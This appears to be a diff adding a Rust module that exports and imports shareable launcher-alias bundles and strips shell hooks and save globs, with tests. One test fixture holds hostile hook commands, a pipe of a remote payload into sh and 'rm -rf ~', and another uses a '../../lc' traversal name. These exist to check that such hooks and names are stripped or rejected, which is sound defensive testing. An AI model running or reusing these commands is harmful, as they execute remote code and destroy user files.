@@ -0,0 +1,164 @@
+use serde::{Serialize, Deserialize};
+use std::collections::HashMap;
+use std::path::Path;
+
+use crate::{aliases, deserialize_aliases, serialize_aliases, Alias, Config};
+
+/// A standalone set of aliases to share with other people, written by `alias export`.
+#[derive(Serialize, Deserialize)]
+pub struct Bundle {
+    #[serde(serialize_with = "serialize_aliases", deserialize_with = "deserialize_aliases")]
+    pub aliases: HashMap<String, Alias>
+}
+
+#[derive(Clone, Copy, PartialEq)]
+pub enum OnConflict {
+    Skip,
+    Overwrite,
+    Rename
+}
+
+pub enum Imported {
+    Added,
+    Overwritten,
+    Skipped,
+    /// Added under another name because the original one was taken.
+    Renamed(String),
+    /// Left out because the name can't be an alias, with why.
+    Invalid(String)
+}
+
+
+/// What of `entry` gets shared: how to launch it and its tags. Hooks run shell commands
+/// and save globs point at files on someone's machine, so they stay with whoever set them up.
+fn shareable(entry: Alias) -> Alias {
+    Alias {
+        path: entry.path,
+        runner: entry.runner,
+        args: entry.args,
+        env: entry.env,
+        tags: entry.tags,
+        steam_appid: entry.steam_appid,
+        ..Default::default()
+    }
+}
+
+
+/// Bundles every alias, or only the ones tagged `tag`, with paths made relative to
+/// their library whenever possible.
+pub fn export(config: &Config, tag: Option<&str>) -> Bundle {
+    let aliases = config.aliases.iter()
+        .filter(|(_, entry)| tag.is_none_or(|tag| entry.tags.iter().any(|t| t == tag)))
+        .map(|(name, entry)| {
+            let mut entry = shareable(entry.clone());
+            entry.path = config.portable_alias_path(&entry.path);
+            (name.clone(), entry)
+        })
+        .collect();
+    Bundle { aliases }
+}
+
+
+/// First free `name-2`, `name-3`...
+fn free_name(config: &Config, name: &str) -> String {
+    (2..)
+        .map(|n| format!("{name}-{n}"))
+        .find(|candidate| !config.aliases.contains_key(candidate))
+        .unwrap()
+}
+
+
+/// Merges `bundle` into the config, returning what happened to each alias sorted by name.
+/// Hooks and save globs in the bundle are ignored, like `export` leaves them out, and so
+/// are aliases with names that aren't valid.
+pub fn import(config: &mut Config, bundle: Bundle, on_conflict: OnConflict) -> Vec<(String, Imported)> {
+    let mut aliases: Vec<_> = bundle.aliases.into_iter().collect();
+    aliases.sort_by(|(a, _), (b, _)| a.cmp(b));
+    let mut results = Vec::new();
+    for (name, entry) in aliases {
+        let entry = shareable(entry);
+        if let Err(err) = aliases::validate_name(&name) {
+            results.push((name, Imported::Invalid(err.to_string())));
+            continue;
+        }
+        let imported = match (config.aliases.contains_key(&name), on_conflict) {
+            (false, _) => Imported::Added,
+            (true, OnConflict::Skip) => Imported::Skipped,
+            (true, OnConflict::Overwrite) => Imported::Overwritten,
+            (true, OnConflict::Rename) => Imported::Renamed(free_name(config, &name))
+        };
+        match &imported {
+            Imported::Added | Imported::Overwritten => {
+                config.aliases.insert(name.clone(), entry);
+            }
+            Imported::Renamed(new_name) => {
+                config.aliases.insert(new_name.clone(), entry);
+            }
+            Imported::Skipped | Imported::Invalid(_) => {}
+        }
+        results.push((name, imported));
+    }
+    results
+}
+
+
+/// Why the target of `alias` can't be found on this machine, if it can't.
+pub fn unresolved(config: &Config, alias: &str) -> Option<String> {
+    let Some(target) = config.alias_path(alias) else {
+        return Some(format!("Alias `{alias}` not found"));
+    };
+    if target.contains("${") {
+        Some(format!("`{target}` uses an unknown or unset variable"))
+    } else if !Path::new(&target).is_file() {
+        Some(format!("`{target}` does not exist"))
+    } else {
+        None
+    }
+}
+
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn leaves_hooks_and_saves_out() {
+        let mut config: Config = toml::from_str(crate::DEFAULT_CONFIG).unwrap();
+        let entry = Alias {
+            runner: Some(String::from("wine")),
+            tags: vec![String::from("coop")],
+            pre_launch: vec![String::from("curl https://example.com/payload | sh")],
+            post_exit: vec![String::from("rm -rf ~")],
+            saves: vec![String::from("${HOME}/saves/*")],
+            log: true,
+            ..Alias::new(String::from("/games/lc/lc.exe"))
+        };
+        config.aliases.insert(String::from("lc"), entry.clone());
+
+        let exported = &export(&config, None).aliases["lc"];
+        assert_eq!(exported.runner.as_deref(), Some("wine"));
+        assert_eq!(exported.tags, ["coop"]);
+        assert!(exported.pre_launch.is_empty() && exported.post_exit.is_empty() && exported.saves.is_empty());
+        assert!(!exported.log);
+
+        // A bundle written by hand can have them anyway.
+        let bundle = Bundle { aliases: HashMap::from([(String::from("lc2"), entry)]) };
+        import(&mut config, bundle, OnConflict::Skip);
+        assert!(config.aliases["lc2"].pre_launch.is_empty() && config.aliases["lc2"].post_exit.is_empty());
+        assert!(config.aliases["lc2"].saves.is_empty());
+    }
+
+    #[test]
+    fn skips_aliases_with_invalid_names() {
+        let mut config: Config = toml::from_str(crate::DEFAULT_CONFIG).unwrap();
+        let entry = Alias::new(String::from("/games/lc/lc.exe"));
+        let bundle = Bundle { aliases: HashMap::from([
+            (String::from("../../lc"), entry.clone()),
+            (String::from("lc"), entry)
+        ]) };
+        let report = import(&mut config, bundle, OnConflict::Skip);
+        assert!(matches!(report[0], (ref name, Imported::Invalid(_)) if name == "../../lc"));
+        assert!(matches!(report[1].1, Imported::Added));
+        assert_eq!(config.aliases.keys().collect::<Vec<_>>(), ["lc"]);
+    }
+}